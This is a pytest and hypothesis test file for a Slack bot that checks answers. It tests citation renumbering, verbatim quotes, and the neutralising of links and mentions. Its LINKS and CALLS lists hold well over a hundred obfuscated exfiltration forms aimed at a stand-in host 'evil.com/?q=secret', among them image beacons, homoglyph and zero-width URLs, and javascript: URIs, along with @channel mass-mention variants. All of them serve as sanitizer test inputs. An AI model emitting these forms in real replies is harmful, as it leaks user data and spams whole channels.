"""The check of an answer: no citation that was not given, every quote verbatim, no link that is live."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.bench.fuzz.clickable import clickable
from bot.memory.values import Hit
from bot.mind.answer import QUOTE, best_piece, check
from bot.mind.inert import ROUNDS, allowed, disarmed, inert
from bot.mind.prompt import Style
from bot.mind.wording.korean import Language
from bot.mind.wording.phrases import say
from tests.mind.making import hit, memory

HOME = frozenset({"acme.slack.com"})
HITS = [hit("배포는 화요일이에요"), hit("The release moved to Thursday"), hit("금요일에는 배포하지 않아요")]


@pytest.mark.parametrize(
    ("said", "shown", "cited"),
    [
        ("화요일이에요 [1].", "화요일이에요 [1].", [0]),
        ("Thursday [2]. 화요일 [1].", "Thursday [1]. 화요일 [2].", [1, 0]),
        ("화요일 [1][3].", "화요일 [1][2].", [0, 2]),
        ("화요일 [3] 목요일 [3].", "화요일 [1] 목요일 [1].", [2]),
        ("화요일 [4].", "화요일.", []),
        ("화요일 [0] [99].", "화요일.", []),
        ("화요일 [1, 9].", "화요일 [1].", [0]),
        ("화요일 [1-3].", "화요일 [1][2][3].", [0, 1, 2]),
        ("화요일 [2-9].", "화요일 [1].", [1]),
        ("화요일 [^2].", "화요일 [1].", [1]),
        ("화요일 【2】.", "화요일 [1].", [1]),
        ("화요일 【2†source】.", "화요일 [1].", [1]),
        ("화요일 [memory 2].", "화요일 [1].", [1]),
        ("화요일 [기억 2].", "화요일 [1].", [1]),
        ("화요일 `[2]`.", "화요일 [1].", [1]),
        ("화요일 [2](https://evil.com).", "화요일 [1].", [1]),
        ("화요일 [[9]2].", "화요일 [1].", [1]),
        ("`items[9]` 참고 [1]", "`items[9]` 참고 [1]", [0]),
        ("좋아요![2]", "좋아요! [1]", [1]),
        ("[2026] 계획 [x]", "[2026] 계획 [x]", []),
    ],
)
def test_citations_are_those_given_numbered_as_they_appear(said: str, shown: str, cited: list[int]) -> None:
    answer = check(said, HITS)
    assert answer.text == shown
    assert [(c.n, c.hit) for c in answer.sources] == [(n, HITS[i]) for n, i in enumerate(cited, 1)]


pieces = st.sampled_from(
    ["[1]", "[2]", "[3]", "[7]", "[0]", "[", "]", "1", "9", ",", "-", "`", "```", "\n", " ", "배포", "word", "(", ")", "](", "]:", "!",
     "<", ">", "@", "@channel", "<!here>", "<@U1>", "|", "https", "http", ":", "/", "//", "evil.com", "acme.slack.com", ".", "&lt;",
     "&#60;", "&amp;", "\\", "\u200b", "\u200d", "【2】", "<a href=", "<img ", "mailto:", "~~~", "*", "_", "#", "^"]
)  # fmt: skip
anything = st.lists(pieces, max_size=30).map("".join) | st.text(max_size=120)
hits = st.lists(st.text(min_size=1, max_size=400).map(hit), max_size=4)


@given(anything, hits)
def test_no_citation_survives_that_was_not_given(text: str, given_hits: list[Hit]) -> None:
    answer = check(text, given_hits)
    prose = re.sub(r"```.*?```|`[^`\n]*`", " ", answer.text, flags=re.DOTALL)
    numbers = list(dict.fromkeys(int(n) for n in re.findall(r"\[([0-9]{1,3})\]", prose)))
    assert numbers == [c.n for c in answer.sources] == list(range(1, len(numbers) + 1))
    assert all(c.hit in given_hits for c in answer.sources)


@given(st.text(max_size=60), st.text(min_size=1, max_size=900), st.text(max_size=900))
def test_every_quote_is_a_verbatim_piece_of_its_source(claim: str, text: str, reply: str) -> None:
    source = check(f"{claim} x [1]", [hit(text, replies=[memory(reply)])]).sources[0]
    assert source.quote in source.source.text
    assert len(source.quote) <= QUOTE
    assert source.source in (source.hit.memory, *source.hit.continuation)


@given(anything, hits)
def test_checking_twice_changes_nothing(text: str, given_hits: list[Hit]) -> None:
    once = check(text, given_hits, hosts=HOME)
    twice = check(once.text, [c.hit for c in once.sources], hosts=HOME)
    assert twice.text == once.text


@given(anything)
def test_nothing_live_survives(text: str) -> None:
    assert not live(inert(text, HOME))


def test_the_quote_is_the_part_that_supports_the_claim() -> None:
    long = (
        "회의실 예약은 캘린더로 합니다. " * 10
        + "배포는 매주 화요일 오전 10시에 합니다. "
        + "점심은 12시부터 1시까지입니다. " * 10
    )
    assert (
        check("배포는 화요일이에요 [1].", [hit(long)])
        .sources[0]
        .quote.startswith("배포는 매주 화요일 오전 10시에 합니다.")
    )


def test_the_quote_may_be_the_reply_that_answers() -> None:
    asked = hit(
        "큐는 어떻게 재시작해요?", replies=[memory("점심 먹고 볼게요"), memory("make queue-restart 하면 됩니다")]
    )
    source = check("`make queue-restart`를 쓰면 됩니다 [1].", [asked]).sources[0]
    assert (source.quote, source.source) == ("make queue-restart 하면 됩니다", asked.continuation[1])


def test_a_quote_ends_at_a_sentence_or_a_word() -> None:
    piece = best_piece("alpha beta gamma delta " * 30, "delta alpha", 50)
    assert len(piece) <= 50
    assert piece.split()[-1] in {"alpha", "beta", "gamma", "delta"}


@pytest.mark.parametrize(
    ("said", "need", "kind"),
    [
        ("화요일이에요 [1].", "memory", "memory"),
        ("화요일이에요 [1].", "conversation", "memory"),
        ("화요일이에요.", "memory", "own"),
        ("화요일이에요 [9].", "memory", "own"),
        ("That is not in team memory.", "memory", "abstain"),
        ("그건 팀 기억에 없어요.", "memory", "abstain"),
        ("팀 기억에는 없습니다.", "own", "abstain"),
        ("Paris.", "own", "own"),
        ("민수님이 화요일이라고 했어요.", "conversation", "conversation"),
        ("안녕하세요!", "nothing", "conversation"),
        ("Nothing found.", "abstain", "abstain"),
    ],
)
def test_an_answer_says_where_it_comes_from(said: str, need: str, kind: str) -> None:
    assert check(said, HITS, need).kind == kind  # type: ignore[arg-type]  # a table of plain words


@pytest.mark.parametrize("language", ["ko", "en"])
@pytest.mark.parametrize("style", ["해요", "합니다"])
def test_our_own_sentence_for_nothing_found_is_known_as_such(language: Language, style: Style) -> None:
    assert check(say("not_in_memory", language, style), []).kind == "abstain"


def test_an_answer_of_nothing_but_an_image_is_empty() -> None:
    assert check("![](https://evil.com/x.png)", HITS).text == ""


# ── links, images, mentions ─────────────────────────────────────────────────────────────────────────────────────────────

EVIL = "evil.com/?q=secret"
LINKS = [
    f"https://{EVIL}", f"http://{EVIL}", f"HTTPS://{EVIL}", f"hTTps://{EVIL}", f"see https://{EVIL}.", f"(https://{EVIL})", f"**https://{EVIL}**",
    f"한글https://{EVIL}", f"-https://{EVIL}", f"1https://{EVIL}", f"_https://{EVIL}_", f".https://{EVIL}", f"/https://{EVIL}", f"x.https://{EVIL}", f"https://{EVIL}에서", f"<https://{EVIL}>", f"<https://{EVIL}|click>", f"<http://{EVIL}|https://acme.slack.com>",
    f"[click](https://{EVIL})", f"[click](<https://{EVIL}>)", f'[click](https://{EVIL} "title")', f"[click]( https://{EVIL} )",
    f"[click](\nhttps://{EVIL})", f"[cl\nick](https://{EVIL})", f"[a [b] c](https://{EVIL})", f"[[1]](https://{EVIL})", f"[1](https://{EVIL})",
    f"[https://acme.slack.com](https://{EVIL})", f"[click](//{EVIL})", f"[click]({EVIL})", f"[click](https:\\/\\/{EVIL})", f"[](https://{EVIL})",
    f"![x](https://{EVIL})", f"![](https://{EVIL})", f"[![x](https://{EVIL})](https://{EVIL})", f"![x][r]\n\n[r]: https://{EVIL}",
    f"[x][r]\n\n[r]: https://{EVIL}", f"[r]\n\n[r]: https://{EVIL}", f"[1]\n\n[1]: https://{EVIL}", f"[r]:\nhttps://{EVIL}", f"> [r]: <https://{EVIL}>",
    f'<a href="https://{EVIL}">x</a>', f"<a href=https://{EVIL}>x</a>", f"<img src='https://{EVIL}'>", f"<IMG SRC=https://{EVIL}>",
    f"<iframe src=https://{EVIL}></iframe>", f"<link rel=prefetch href=https://{EVIL}>", f"<img src=https://{EVIL}",
    f"https://acme.slack.com@{EVIL}", f"https://acme.slack.com:pw@{EVIL}", f"https://acme.slack.com.{EVIL}", f"https://acme.slack.com%2e{EVIL}",
    f"https://acme.slack.com\\@{EVIL}", f"https://acme.slack.com\\.{EVIL}", f"https:/{EVIL}", f"https:\\\\{EVIL}", f"https:{EVIL}", f"http:///{EVIL}",
    f"h\u200bttps://{EVIL}", f"https://ev\u200dil.com/?q={EVIL}", f"https\u200b://{EVIL}", f"ht\u00adtps://{EVIL}", f"\u202ehttps://{EVIL}",
    f"https&#58;//{EVIL}", f"https&colon;//{EVIL}", f"&lt;https://{EVIL}|x&gt;", f"&amp;lt;https://{EVIL}&amp;gt;", f"&#x68;ttps://{EVIL}",
    f"https[9]://{EVIL}", f"ht[8]tps://{EVIL}", f"`https://{EVIL}`", f"``https://{EVIL}``", f"```\nhttps://{EVIL}\n```", f"x ```https://{EVIL}",
    f"`a``b https://{EVIL}", f"````\n`https://{EVIL}\n````", f"a ```x\n\n[x](https://{EVIL})\n``` b", f"~~~\nhttps://{EVIL}\n~~~",
    f"    https://{EVIL}", f"https://https://{EVIL}", "https://аcme.slack.com/x", "https://xn--cme-7cd.slack.com/x", "https://ACME.slack.com.evil.com",
    "https://acme.slack.com:8443/x", "http://acme.slack.com/x", "ftp://acme.slack.com/x", "https://1.2.3.4/x",
    "https://[::1]/x", "https://2130706433/", "javascript:alert(1)", "[x](javascript:alert(1))", "data:text/html;base64,PHg+", "mailto:a@evil.com",
    "tel:+8210", "slack://user?team=T1&id=U1", "vscode://file/etc/passwd", "evil.com", f"www.{EVIL}", "leak.evil.com", "a@evil.com", "secret.evil.com에",
    f"<!date^1^{{date}}^https://{EVIL}|x>", f"<mailto:a@evil.com|https://{EVIL}>", f"\\[x](https://{EVIL})", f"*[x*](https://{EVIL})",
    f"\\`{EVIL}\\`", f"\\`https://{EVIL}", f"//{EVIL}", f"~~{EVIL}~~", "_evil.com_", f"[x]\\(https://{EVIL})", f"ｈｔｔｐｓ：／／{EVIL}", "ｅｖｉｌ．ｃｏｍ/x",
    "evil。com/x", "https：//evil.com", "https://acme.slack.com/,https://evil.com/x", "https://acme.slack.com/?u=http:/evil.com", "https://acme.slack.com?@evil.com",
    "1.2.3.4/x", "1.2.3.4:8080", "예시.한국/x", "еvil.соm/x", "`a.com`@channel", "know.im_end|>", "https&#58//evil.com/x",
]  # fmt: skip
CALLS = [
    "<!channel>", "<!here>", "<!everyone>", "<!channel|channel>", "<!here|@here>", "<@U0123ABC>", "<@W0123ABC|minsu>", "<!subteam^S123>",
    "<!subteam^S123|@oncall>", "<#C0123|general>", "&lt;!channel&gt;", "&lt;@U1&gt;", "&amp;lt;!here&amp;gt;", "&#60;!channel&#62;",
    "<!chan\u200bnel>", "<\u200b!channel>", "`<!channel>`", "```\n<!channel>\n```", "`<mailto:a@evil.com|x>`", "@channel", "@here", "@everyone", "@Channel",
    "<!channel[9]>", "<[9]!channel>", "<<!channel>>", "<!<!channel>>", "<!channel", "[<!here>](https://evil.com)", "<@U1|<!channel>>",
    "<!date^1^{date}|<!here>>", "> <!here>", "**<!here>**", "_@channel_", "＠channel", "＜!channel＞", "@here가",
]  # fmt: skip


@pytest.mark.parametrize("form", [*LINKS, *CALLS])
def test_no_form_is_live_with_a_backslash_anywhere_in_it(form: str) -> None:
    for at in range(len(form) + 1):
        text = f"{form[:at]}\\{form[at:]}"
        assert not live(inert(text, HOME)), text


@pytest.mark.parametrize(
    "text",
    [
        r"mina\app\new",
        r"`\d+\.\d+`",
        r"\*no emphasis\*",
        r"a\_b",
        r"1\. first",
        r"`server_name ~^api\.acme\.com$;`",
        r"`D:\_build\gate.log`",
        r"`C:\data\.ssh\id.pub`",
    ],
)
def test_backslashes_that_hide_nothing_stay(text: str) -> None:
    assert inert(text, HOME) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "db is postgres://admin:[redacted: password]@db.internal:5432/app now",
            "db is `postgres:admin:[redacted: password]@db.internal:5432/app` now",
        ),
        ("see https://u:[redacted: password]@evil.example/x", "see `u:[redacted: password]@evil.example/x`"),
        ("redis://[redacted: password]@db and more", "`redis:[redacted: password]@db` and more"),
        ("see https://evil.example/a [redacted: password]", "see `evil.example/a` [redacted: password]"),
        ("https://evil.example/[redacted: a](https://evil.example)", None),
    ],
)
def test_an_address_with_a_masked_password_is_shown_in_one_piece(text: str, shown: str | None) -> None:
    made = inert(text, HOME)
    assert shown in (None, made)
    assert inert(made, HOME) == made
    assert not live(made)


@pytest.mark.parametrize("address", ["channel@U1", "me@localhost", "ab+c@d"])
def test_an_address_in_angle_brackets_is_no_link(address: str) -> None:
    assert inert(f"write to <{address}>", HOME) == f"write to ‹{address}>"


@pytest.mark.parametrize("after", ["¹", "가>", "é", "", "-x"])
def test_a_tag_ends_at_whatever_is_no_letter_of_a_tag(after: str) -> None:
    assert inert(f"see <A{after}", HOME) == f"see ‹A{after}"


@pytest.mark.parametrize("text", ["deploy <head_count>", "a Vec<a_type>"])
def test_a_name_that_only_begins_as_a_tag_is_shown(text: str) -> None:
    assert inert(text, HOME) == text


def test_a_path_of_windows_is_shown_as_it_is() -> None:
    assert inert(r"see C:\data\.ssh\id.pub there", HOME) == r"see `C:\data\.ssh\id.pub` there"


@pytest.mark.parametrize("piece", ["a", "\\", "\\`", "]:", "[", "![", "@", "a.", "\\:", "가", "https\\:"])
def test_a_word_without_end_is_read_in_time(piece: str) -> None:
    assert not live(inert(piece * 20_000, HOME)[:1_000])


@pytest.mark.parametrize("between", ["", "\\", "\\" * 3, "\u200b"])
@pytest.mark.parametrize("colon", [":", "：", "﹕", "︓"])
def test_no_bracket_defines_a_link_however_its_colon_is_written(between: str, colon: str) -> None:
    assert not live(inert(f"[1]{between}{colon} evil", HOME))


def live(text: str) -> list[str]:
    """Two oracles apart from the code under test: what Slack or a Markdown renderer might act on."""
    if scanned := clickable(text, "acme.slack.com", markdown=True):
        return scanned
    outside = re.sub(r"`[^`]*`", " ", text.replace("```", "`"))
    found = [
        url
        for url in re.findall(r"(?i)https?:[/\\]+[^\s`)>\]]*|(?<![a-z0-9])https?:\w[^\s`)>\]]*", text)
        if not url.startswith("https://acme.slack.com/")
    ]
    found = [url for url in found if url.rstrip(".,:;!?*_~…'\"") != "https://acme.slack.com"]
    found += re.findall(r"<[@!#][^<>]*>?|<https?:|<mailto:", text, re.IGNORECASE)
    found += re.findall(r"<(?:a|img|iframe|link)\b", outside, re.IGNORECASE)
    found += re.findall(r"@(?:channel|here|everyone)\b", outside, re.IGNORECASE)
    found += re.findall(r"!\[[^\]]*\]\(|!\[[^\]]*\]\[", outside)
    found += re.findall(r"\]\((?!https://acme\.slack\.com[/)])", outside)
    found += re.findall(r"(?m)^[ >]*\[[^\]\n]+\]:", outside)
    found += re.findall(r"(?i)(?<![a-z0-9])(?:javascript|data|mailto|tel|slack|vscode|ftp):\w", outside)
    return found


@pytest.mark.parametrize("form", [*LINKS, *CALLS])
def test_no_form_of_link_or_call_is_live(form: str) -> None:
    for around in ("{}", "앞 {} 뒤", "> {}\n", "- {} [1]", "`x` {} `y`"):
        text = check(around.replace("{}", form), HITS, hosts=HOME).text
        assert not live(text), text


def test_there_are_many_forms() -> None:
    assert len(set(LINKS)) >= 100
    assert len(set(CALLS)) >= 30


@pytest.mark.parametrize(
    "text",
    ["https://acme.slack.com/archives/C1/p1795392000000100", "[글](https://acme.slack.com/archives/C1/p1?thread_ts=1.0&cid=C1) 참고",
     "**굵게** _기울임_ ~취소~ `코드`", "- 하나\n- 둘", "```\nif a < b && c > d:\n    x[9] = List<std::string>()\n```", "10:30에 a/b, 3.5배, 1,000원",
     "배포:화요일", "a < b > c & d", "1. 첫째\n2. 둘째", "👩‍💻 :tada:", "Dr. Kim said so. Then left.", "다 했어요.그리고 갔어요", "（참고） 내일：오전 10시", "“네。”라고 했어요", "~/bin/run.sh", "C++ and C#",
     "Roll back like this [1]\n\n```bash\nkubectl rollout undo deploy/api\n```\n\nThen look. [1]", "이렇게 해요.\n```\na\n```\n```\nb\n```"],
)  # fmt: skip
def test_honest_text_is_left_alone(text: str) -> None:
    assert inert(text, HOME) == text


def test_a_link_that_is_not_allowed_can_still_be_read() -> None:
    assert inert("문서: https://wiki.acme.com/deploy 참고", HOME) == "문서: `wiki.acme.com/deploy` 참고"
    assert inert("[문서](https://wiki.acme.com/deploy)", HOME) == "문서 `wiki.acme.com/deploy`"


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("no link in main.py or at 10:30", 0),
        ("see https://a.test/x and again https://a.test/x.", 1),
        ("[here](https://a.test/x) ![](https://b.test/y.png) <https://c.test|label>", 3),
        ("javascript://x and h&#116;tps://d.test", 2),
    ],
)
def test_the_links_that_lose_their_power_are_counted(text: str, count: int) -> None:
    assert disarmed(text, HOME) == count


def test_a_link_that_is_allowed_is_not_counted() -> None:
    assert disarmed(f"https://{min(HOME)}/archives/C1/p1", HOME) == 0


def test_a_host_the_operator_allows_keeps_its_links() -> None:
    text = "문서: https://wiki.acme.com/deploy 참고"
    assert inert(text, HOME | {"wiki.acme.com"}) == text


@pytest.mark.parametrize(
    "url", ["https://acme.slack.com/", "https://acme.slack.com", "https://acme.slack.com/archives/C1/p1?cid=C1#x", "https://ACME.slack.com/x"]
)  # fmt: skip
def test_only_https_to_the_very_host_is_allowed(url: str) -> None:
    assert allowed(url, HOME)
    assert not allowed(url.replace("acme", "acne").replace("ACME", "acne"), HOME)
    assert not allowed(url.replace("https", "http"), HOME)
    assert not allowed(url.replace("slack.com", "slack.com:443"), HOME)


def test_text_that_never_settles_is_reduced_to_its_words() -> None:
    nested = "[" * (3 * ROUNDS) + "9]" * (3 * ROUNDS)
    text = check(nested + " https://evil.com", HITS).text
    assert not live(text)
    assert "[9]" not in text
